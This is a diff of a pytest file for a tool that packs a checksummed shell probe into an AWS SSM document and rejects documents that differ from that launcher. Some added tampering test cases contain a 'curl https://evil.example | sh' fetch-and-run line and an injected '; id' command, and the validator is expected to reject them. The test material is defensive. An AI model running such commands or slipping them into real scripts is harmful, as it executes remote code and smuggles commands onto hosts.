@@ -17,9 +17,9 @@ if TYPE_CHECKING:
     from pathlib import Path
 
 
-def document(script: str) -> str:
+def document(script: str, **more: object) -> str:
     step = {"action": "aws:runShellScript", "name": "probe", "inputs": {"runCommand": script.split("\n")}}
-    return json.dumps({"schemaVersion": "2.2", "mainSteps": [step]})
+    return json.dumps({"schemaVersion": "2.2", "mainSteps": [step], **more})
 
 
 def run(script: str, **environment: str) -> subprocess.CompletedProcess[str]:
@@ -56,8 +56,11 @@ def test_what_was_packed_is_the_probe() -> None:
 
 
 DAMAGED = [
-    ("echo nothing", "no packed probe"),
-    (packed_probe().replace("# sha256 ", "# sha256 0", 1), "no packed probe"),
+    ("echo nothing", "not the launcher"),
+    (packed_probe().replace("# sha256 ", "# sha256 0", 1), "not the launcher"),
+    (packed_probe().replace("script=$(", "curl https://evil.example | sh; script=$(", 1), "not the launcher"),
+    (packed_probe().replace('"$script" cce', '"$script; id" cce', 1), "not the launcher"),
+    (f"id\n{packed_probe()}", "not the launcher"),
     (packed_probe().replace("H4sI", "AAAA", 1), "damaged"),
 ]
 
@@ -88,8 +91,11 @@ def test_an_auditor_compares_a_document_with_the_version_at_hand(
 @pytest.mark.parametrize(
     ("content", "why"),
     [
-        (document("echo x"), b"no packed probe"),
+        (document("echo x"), b"not the launcher"),
+        (document(packed_probe(), parameters={"x": {}}), b"does more than run the probe: it has parameters"),
+        (document(packed_probe(), mainSteps=[]), b"no SSM document"),
         ("{}", b"no SSM document"),
+        ("", b"no SSM document"),
         ("- [", b"no SSM document"),
     ],
 )
@@ -112,3 +118,10 @@ def test_the_probe_can_be_printed_with_and_without_its_comments(
     assert linux_probe().encode() == capsysbinary.readouterr().out
     assert 0 == main(["probe", "--comments"])
     assert b"# --- units" in capsysbinary.readouterr().out
+
+
+def test_a_document_that_is_not_there_is_an_error_of_one_line(
+    tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
+) -> None:
+    assert 2 == main(["probe", "--document", str(tmp_path / "none")])
+    assert b"cannot be read: No such file or directory" in capsysbinary.readouterr().err
